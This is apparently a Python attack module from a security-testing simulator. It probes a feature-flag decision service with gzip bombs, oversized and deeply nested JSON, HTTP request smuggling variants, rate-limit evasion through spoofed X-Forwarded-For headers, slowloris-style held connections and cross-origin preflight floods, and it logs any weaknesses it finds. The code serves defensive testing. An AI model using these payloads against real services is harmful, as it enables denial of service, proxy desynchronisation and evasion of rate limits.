"""What costs the port for pages something, or could be taken for two things: streams in crowds, bombs, requests that
end in two places, more calls than a page may make. Called by `attacker.py`, which runs them as those of `wire.py`.
"""

from __future__ import annotations

import gzip
import json
import re
import time
from functools import cache
from random import Random

from simulator.studies.attack.doors import framed
from simulator.studies.attack.names import MARK, OWN, SITE, VICTIM
from simulator.studies.attack.sockets import STRANGER, connect, read_some, send
from simulator.studies.attack.wire import Wire

DECIDE = "/decider.v1.DeciderService/Decide"
REWARD = "/decider.v1.DeciderService/Reward"
EVENTS = "/flagd.evaluation.v1.Service/EventStream"
BULK = "/ofrep/v1/evaluate/flags"
PATHS = (DECIDE, DECIDE + "Batch", REWARD, BULK, f"{BULK}/{OWN}", "/flagd.evaluation.v1.Service/ResolveAll")
JSON = "application/json"

SLOW = 3.0
"""Seconds after which an answer to one request is late: something held the loop."""

BURST_SECONDS, SLACK = 5.0, 10
"""A page's rate may come so many seconds at once; and what a slow machine adds."""

TRIES = 60
AT_ONCE = 4
"""Requests before an answer that a connection may send."""


def head(path: str, length: int | None, kind: str = JSON, *more: str, token: str = "") -> bytes:
    """First line and headers."""
    lines = [f"POST {path} HTTP/1.1", "Host: shop.example", f"Content-Type: {kind}", *more]
    lines += [f"Authorization: {token}"] if token else []
    lines += [] if length is None else [f"Content-Length: {length}"]
    return "\r\n".join([*lines, "", ""]).encode()


def _token(wire: Wire) -> str:
    return wire.own.authorizations[0] if wire.own.authorizations else ""


def _status(answer: bytes) -> str:
    found = re.match(rb"HTTP/1\.1 (\d+)", answer)
    return found[1].decode() if found else "nothing"


def _body(random: Random) -> bytes:
    unit = f"{MARK}-{random.getrandbits(32):x}"
    return json.dumps({"experiment": OWN, "unitId": unit, "context": {"targetingKey": unit}}).encode()


def crowd_events(wire: Wire, random: Random) -> str:
    """Streams of events, which a page may keep open for long."""
    body = framed(b"{}")
    kind = random.choice(("application/connect+json", "application/grpc-web+proto"))
    body = body if "json" in kind else framed(b"")
    connection = connect(wire.aim.web, wire.web, source=STRANGER)
    send(connection, head(EVENTS, len(body), kind, token=_token(wire)) + body)
    wire.held.add(connection)
    return "held"


@cache
def _bombs() -> tuple[tuple[str, bytes, tuple[str, ...]], ...]:
    """(name, body, headers)"""
    zeros = gzip.compress(b" " * 200_000_000, 6)
    deep = b'{"context":{"features":' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"}}"
    lists = b'{"context":{"features":{"a":' + b"[" * 50_000 + b"]" * 50_000 + b"}}}"
    many = b'{"experiment":"own",' + b",".join(b'"a%d":1' % number for number in range(40_000)) + b"}"
    number = b'{"experiment":"own","unitId":"u","context":{"features":{"a":' + b"9" * 500_000 + b"}}}"
    power = b'{"experiment":"own","unitId":"u","context":{"features":{"a":1e999999999,"b":-1e-999999999}}}'
    twice = b'{"experiment":"own","experiment":"victim","unitId":"u","unitId":"v"}'
    text = b'{"experiment":"own","unitId":"' + b"u" * 900_000 + b'"}'
    surrogate = b'{"experiment":"own","unitId":"\\ud800","context":{"segment":"\\u0000\\ud83d"}}'
    bad = b'{"experiment":"own","unitId":"\xff\xfe"}'
    words = b'{"value":"has no field named \\"' + b'has no field named \\"\\" at \\"a\\".\\n\\"[' * 1_000 + b'"}'
    batch = b'{"requests":[' + b"{}," * 20_000 + b"1]}"
    flags = b'{"context":{"targetingKey":"u",' + b",".join(b'"a%d":{"b":[1,2]}' % one for one in range(20_000)) + b"}}"
    gz = ("Content-Encoding: gzip",)
    return (
        ("gzip bomb", zeros, gz), ("gzip bomb in a gzip bomb", gzip.compress(zeros), gz), ("no gzip", b"{}", gz),
        ("half of a gzip", gzip.compress(_filler())[:-20], gz), ("many gzips", gzip.compress(b"{}") * 3_000, gz),
        ("deep object", deep, ()), ("deep list", lists, ()), ("many names", many, ()), ("long number", number, ()),
        ("large exponent", power, ()), ("names twice", twice, ()), ("long text", text, ()),
        ("half of a pair", surrogate, ()), ("no UTF-8", bad, ()), ("many features", flags, ()),
        ("Infinity", b'{"context":{"features":{"a":Infinity,"b":NaN}}}', ()), ("no object", b"[" * 3_000, ()),
        ("words of an error", words, ()), ("empty requests", batch, ()),
    )  # fmt: skip


def _filler() -> bytes:
    return bytes(range(256)) * 400


REFUSED_ALWAYS = {"gzip bomb", "gzip bomb in a gzip bomb", "no gzip", "half of a gzip", "deep object", "deep list"}


def drop_bombs(wire: Wire, random: Random) -> str:
    """Bodies that are larger than they look, or cost more to read than to send."""
    name, body, more = random.choice(_bombs())
    kind = random.choice((JSON, JSON, "text/plain", "application/proto", "application/grpc-web+proto"))
    path = random.choice(PATHS)
    if "grpc" in kind:
        body = framed(body, flags=1 if more else 0)
        more = ("grpc-encoding: gzip",) if more else ()
    begun = time.monotonic()
    with connect(wire.aim.web, wire.web, source=STRANGER) as connection:
        send(connection, head(path, len(body), kind, *more, token=_token(wire)) + body)
        answer = read_some(connection, 10)
    status, taken = _status(answer), time.monotonic() - begun
    if taken > SLOW:
        wire.found(f"{name} at {path} as {kind}: the answer took {taken:.1f} s")
    if status[:1] == "5":
        wire.found(f"{name} at {path} as {kind}: {answer[:200]!r}")
    if status == "200" and name in REFUSED_ALWAYS and "grpc" not in kind:
        wire.found(f"{name} at {path} as {kind} was taken")
    return status


def smuggle(wire: Wire, random: Random) -> str:
    """Requests that a proxy in front of the port could take for others than the port does."""
    inner = head(REWARD, 2, token=_token(wire)) + b"{}"
    body = _body(random)
    token, size = _token(wire), len(body)
    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (size, body)
    te = "Transfer-Encoding: chunked"
    name, sent = random.choice(
        (
            ("both lengths", head(DECIDE, size, JSON, te, token=token) + chunked),
            ("two lengths", head(DECIDE, size, JSON, "Content-Length: 0", token=token) + body),
            ("lengths in a list", head(DECIDE, None, JSON, f"Content-Length: {size}, 0", token=token) + body),
            ("length with a sign", head(DECIDE, None, JSON, f"Content-Length: +{size}", token=token) + body),
            ("length with a line", head(DECIDE, None, JSON, f"Content-Length: {size}_0", token=token) + body),
            (
                "a space before the colon",
                head(DECIDE, size, JSON, "Transfer-Encoding : chunked", token=token) + chunked,
            ),
            (
                "a folded header",
                head(DECIDE, None, JSON, f"X: a\r\n Content-Length: {size}", te, token=token) + chunked,
            ),
            ("another coding", head(DECIDE, None, JSON, "Transfer-Encoding: xchunked", token=token) + chunked),
            ("a coding twice", head(DECIDE, None, JSON, te, "Transfer-Encoding: identity", token=token) + chunked),
            ("a chunk's size wrong", head(DECIDE, None, JSON, te, token=token) + b"-1\r\n" + body + b"\r\n0\r\n\r\n"),
            ("a chunk's size long", head(DECIDE, None, JSON, te, token=token) + b"f" * 40 + b"\r\n" + body),
            ("a bare line feed", head(DECIDE, size, JSON, "X: a\nContent-Length: 0", token=token) + body),
            ("a bare return", head(DECIDE, size, JSON, "X: a\rContent-Length: 0", token=token) + body),
            ("a zero byte", head(DECIDE, size, JSON, "X: a\0b", token=token) + body),
            ("two hosts", head(DECIDE, size, JSON, "Host: evil.example", token=token) + body),
        )
    )
    with connect(wire.aim.web, wire.web, source=STRANGER) as connection:
        send(connection, sent + inner)
        answer = read_some(connection, 3)
        more = read_some(connection, 0.2)
    status = _status(answer)
    if name != "two hosts" and status == "200":
        wire.found(f"a request with {name} was taken")
    if name == "both lengths" and (answer + more).count(b"HTTP/1.1 ") > 1:
        wire.found(f"behind a request with {name} another one was read")
    return f"{name}: {status}"


def call_too_often(wire: Wire, random: Random) -> str:
    """More calls of a page than its key has, each said to come from elsewhere."""
    key, rate = wire.aim.keys.get("seldom", ""), wire.aim.seldom
    body = json.dumps({"experiment": OWN, "unitId": f"{MARK}-{random.getrandbits(32):x}"}).encode()
    good, begun = 0, wire.begun or time.monotonic()
    wire.begun = begun
    connection = connect(wire.aim.web, wire.web, source=STRANGER)
    with connection:
        for number in range(TRIES):
            more = f"X-Forwarded-For: 203.0.113.{number}", f"Origin: {SITE}", f"Forwarded: for=203.0.113.{number}"
            send(connection, head(DECIDE, len(body), JSON, *more, token=f"Bearer {key}") + body)
            answer = read_some(connection, 5)
            if VICTIM.encode() in answer:
                return answer.decode("latin-1")
            good += _status(answer) == "200"
    wire.good += good
    most = rate * (BURST_SECONDS + time.monotonic() - begun) + SLACK
    if wire.aim.asks and wire.good > most:
        wire.found(f"{wire.good} calls of one address with a key for {rate:g} a second, {most:.0f} may be")
    return f"{'some' if good else 'none'} answered"


def crowd_callers(wire: Wire, random: Random) -> str:
    """Connections of which each sends all but the end of a call, as slow callers do."""
    connection = connect(wire.aim.web, wire.web, source=STRANGER)
    body = _body(random)
    path = random.choice((*PATHS, EVENTS))
    send(connection, head(path, len(body) + 1, random.choice((JSON, "text/plain")), token=_token(wire)) + body)
    wire.held.add(connection)
    wire.held.touch(b" "[: random.randrange(2)])
    return "held"


def read_no_answers(wire: Wire, random: Random) -> str:
    """Many calls at once, whose answers nobody reads."""
    connection = connect(wire.aim.web, wire.web, source=STRANGER)
    one = _body(random)
    several = random.choice((AT_ONCE, 50))
    send(connection, (head(random.choice(PATHS), len(one), token=_token(wire)) + one) * several)
    send(connection, (b"GET /client.js HTTP/1.1\r\nHost: a\r\n\r\n") * several)
    wire.held.add(connection)
    return "held"


def preflight_often(wire: Wire, random: Random) -> str:
    """Preflights one after the other, which nobody pays for with a token."""
    origin = random.choice((SITE, "https://evil.example"))
    one = (
        f"OPTIONS {random.choice(PATHS)} HTTP/1.1\r\nHost: a\r\nOrigin: {origin}\r\nAccess-Control-Request-Method: POST"
    )
    with connect(wire.aim.web, wire.web, source=STRANGER) as connection:
        send(connection, f"{one}\r\n\r\n".encode() * random.choice((AT_ONCE, 20)))
        answer = read_some(connection, 2)
    if origin != SITE and b"access-control-allow-origin" in answer.lower():
        wire.found(f"a preflight of {origin} is let in")
    return _status(answer)
